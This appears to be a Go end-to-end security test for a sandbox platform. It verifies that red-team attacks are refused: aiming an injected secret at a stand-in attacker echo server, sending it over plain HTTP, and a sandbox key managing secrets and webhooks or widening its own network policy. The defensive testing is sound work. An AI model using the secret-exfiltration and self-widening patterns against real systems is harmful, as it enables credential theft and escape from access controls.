package e2e

// The red team's attacks on secrets and on a sandbox's own key (issue 33,
// items 2 and 4) against a real server and real sandboxes: "the internet"
// is a namespace this test makes, with api.secret.test (HTTPS and HTTP,
// secUpstreams) and echo.secret.test, a plain HTTP server that answers
// with the Authorization it got — the attacker's echo server.

import (
	"context"
	"fmt"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/lizard-build/lizard/api"
	"github.com/lizard-build/lizard/client"
)

const (
	echoHost = "echo.secret.test"
	echoAddr = "203.0.113.26"
)

// TestSecretsScopeAttacks: a secret set for api.secret.test cannot be
// aimed at the attacker's echo server by a child sandbox's inject rule
// (made with the lizardToken of a sandbox, or a project key): 400 naming
// the secret and the host. The node refuses to send it over plain HTTP
// (403, nothing sent) and to a host it was narrowed away from. A
// sandbox's key may not set, list or remove secrets, nor set the
// project's default policy (403), nor widen its own policy or make a
// wider child (403). Each of these went through on main 26ea272.
func TestSecretsScopeAttacks(t *testing.T) {
	testNet(t, "lizt-ssc", "lzt-ssc0", "198.51.100.26", []string{secUpstream, echoAddr})
	up, ca := newSecUpstreams(t, "lizt-ssc", secUpstream)
	echo := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprintf(w, "echo %s", r.Header.Get("Authorization"))
	})}
	go echo.Serve(listenNS(t, "lizt-ssc", net.JoinHostPort(echoAddr, "80")))
	t.Cleanup(func() { echo.Close() })
	roots := filepath.Join(t.TempDir(), "roots.pem")
	if err := os.WriteFile(roots, []byte(ca), 0o600); err != nil {
		t.Fatal(err)
	}
	s := startServer(t, "--egress=internet", "--egress-allow=203.0.113.24/30",
		"--egress-test-hosts="+secHost+"="+secUpstream+","+echoHost+"="+echoAddr, "--egress-extra-roots="+roots,
		"--webhook-allow-private") // the webhook below is on loopback: nothing is ever sent off the machine
	c := s.createProject("scope")
	ctx := context.Background()
	value := secValue()
	if _, err := c.Secrets().Set(ctx, "TOKEN", api.SetSecretRequest{Value: value, Hosts: []string{secHost}}); err != nil {
		t.Fatal(err)
	}
	inject := []api.HeaderRule{{Domain: secHost, Headers: map[string]string{"Authorization": "Bearer {{ secrets.TOKEN }}"}}}
	parent := newSandbox(t, c, api.CreateSandboxRequest{LizardToken: true,
		Network: &api.NetworkPolicy{Default: "deny", Allow: []string{secHost}, Inject: inject}})
	key := strings.TrimSpace(execOK(t, c, parent.SandboxID, "sh", "-c", "echo $LIZARD_API_KEY"))
	kc := s.client(key) // the sandbox's key, as its code would use it

	// The echo attack: a child whose rule puts TOKEN on requests to the
	// attacker's server, which answers with it.
	attack := api.CreateSandboxRequest{Network: &api.NetworkPolicy{Default: "deny", Allow: []string{echoHost},
		Inject: []api.HeaderRule{{Domain: echoHost, Headers: map[string]string{"Authorization": "Bearer {{ secrets.TOKEN }}"}}}}}
	for who, cl := range map[string]*client.Client{"the sandbox's key": kc, "a project key": c} {
		child, err := cl.CreateSandbox(ctx, attack)
		if err == nil {
			t.Cleanup(func() { c.KillSandbox(context.Background(), child.SandboxID) })
			out := runPy(t, c, child.SandboxID, `import urllib.request; print(urllib.request.urlopen("http://`+echoHost+`/", timeout=15).read().decode())`)
			t.Errorf("with %s, a child injecting TOKEN for %s was made, and the echo server answered %q", who, echoHost, strings.TrimSpace(out))
			continue
		}
		if !isStatus(err, 400) || !strings.Contains(err.Error(), `secret "TOKEN" for `+echoHost) {
			t.Errorf("with %s, the echo attack = %v; want 400 naming TOKEN and %s", who, err, echoHost)
		}
	}

	// HTTPS to its host carries it; plain HTTP does not (no allowHttp):
	// 403 from the node, nothing sent.
	out := runPy(t, c, parent.SandboxID, `import urllib.request, urllib.error
for u in ("https://api.secret.test/scope-https", "http://api.secret.test/scope-plain"):
    try: print(urllib.request.urlopen(u, timeout=15).read().decode())
    except urllib.error.HTTPError as e: print(e.code, e.read().decode().strip())`)
	lines := strings.Split(strings.TrimSpace(out), "\n")
	if got := up.got("/scope-https"); len(lines) != 2 || lines[0] != "ok /scope-https" || len(got) != 1 || got[0] != "Bearer "+value {
		t.Errorf("HTTPS to the secret's host read %q, the upstream got %q; want it injected", out, got)
	}
	if got := up.got("/scope-plain"); len(lines) != 2 || !strings.HasPrefix(lines[1], "403 ") || !strings.Contains(lines[1], "plain HTTP") || len(got) != 0 {
		t.Errorf("plain HTTP to the secret's host read %q, the upstream got %q; want 403 and nothing sent", out, got)
	}

	// A sandbox's key manages no secrets, nor the project's default policy.
	if _, err := kc.Secrets().Set(ctx, "MINE", api.SetSecretRequest{Value: "x", Hosts: []string{echoHost}}); !isStatus(err, 403) || !strings.Contains(err.Error(), "project key") {
		t.Errorf("setting a secret with the sandbox's key = %v; want 403 saying a project key is needed", err)
	}
	if _, err := kc.Secrets().List(ctx); !isStatus(err, 403) {
		t.Errorf("listing secrets with the sandbox's key = %v; want 403", err)
	}
	if err := kc.Secrets().Delete(ctx, "TOKEN"); !isStatus(err, 403) {
		t.Errorf("removing a secret with the sandbox's key = %v; want 403", err)
	}
	if _, err := kc.Network().Set(ctx, api.NetworkPolicy{Default: "allow"}); !isStatus(err, 403) {
		t.Errorf("setting the project's default policy with the sandbox's key = %v; want 403", err)
	}
	// Nor webhooks: one would go on sending the project's events to the
	// code's server after the sandbox and its key were gone.
	wh, err := c.Webhooks().Create(ctx, api.CreateWebhookRequest{URL: "http://127.0.0.1:9/lizard"})
	if err != nil {
		t.Fatalf("creating a webhook with a project key: %v", err)
	}
	if _, err := kc.Webhooks().Create(ctx, api.CreateWebhookRequest{URL: "http://127.0.0.1:9/mine"}); !isStatus(err, 403) || !strings.Contains(err.Error(), "project key") {
		t.Errorf("creating a webhook with the sandbox's key = %v; want 403 saying a project key is needed", err)
	}
	if _, err := kc.Webhooks().List(ctx); !isStatus(err, 403) {
		t.Errorf("listing webhooks with the sandbox's key = %v; want 403", err)
	}
	if _, err := kc.Webhooks().Deliveries(ctx, wh.WebhookID); !isStatus(err, 403) {
		t.Errorf("reading a webhook's deliveries with the sandbox's key = %v; want 403", err)
	}
	if err := kc.Webhooks().Delete(ctx, wh.WebhookID); !isStatus(err, 403) {
		t.Errorf("removing a webhook with the sandbox's key = %v; want 403", err)
	}
	if ws, err := c.Webhooks().List(ctx); err != nil || len(ws) != 1 {
		t.Errorf("the project's webhooks after the sandbox key's tries = %+v, %v; want the one it had", ws, err)
	}

	// Self-widening: its own policy from deny to allow, a wider child.
	allow := "allow"
	if _, err := kc.UpdateNetwork(ctx, parent.SandboxID, api.UpdateNetworkRequest{Default: &allow}); !isStatus(err, 403) || !strings.Contains(err.Error(), "narrow") {
		t.Errorf("lifting its own policy to allow with its own key = %v; want 403", err)
	}
	if out := runPy(t, c, parent.SandboxID, `import urllib.request
try: print(urllib.request.urlopen("http://`+echoHost+`/", timeout=5).read().decode())
except Exception as e: print("refused", type(e).__name__)`); !strings.HasPrefix(strings.TrimSpace(out), "refused") {
		t.Errorf("after the refused update the sandbox reached %s: %q", echoHost, out)
	}
	yes := true
	if _, err := kc.CreateSandbox(ctx, api.CreateSandboxRequest{AllowInternet: &yes, Network: &api.NetworkPolicy{Default: "allow"}}); !isStatus(err, 403) {
		t.Errorf("a child with default allow through the sandbox's key = %v; want 403", err)
	}

	// Narrowed after the policy was set: the old host gets nothing.
	if _, err := c.Secrets().Set(ctx, "TOKEN", api.SetSecretRequest{Value: value, Hosts: []string{"other.secret.test"}}); err != nil {
		t.Fatal(err)
	}
	out = runPy(t, c, parent.SandboxID, `import urllib.request, urllib.error
try: print(urllib.request.urlopen("https://api.secret.test/scope-narrowed", timeout=15).read().decode())
except urllib.error.HTTPError as e: print(e.code, e.read().decode().strip())`)
	if got := up.got("/scope-narrowed"); !strings.HasPrefix(strings.TrimSpace(out), "403 ") || len(got) != 0 {
		t.Errorf("after TOKEN's hosts were narrowed, a request to its old host read %q, the upstream got %q; want 403, nothing sent", out, got)
	}
	noValueOnDisk(t, s, value)
}
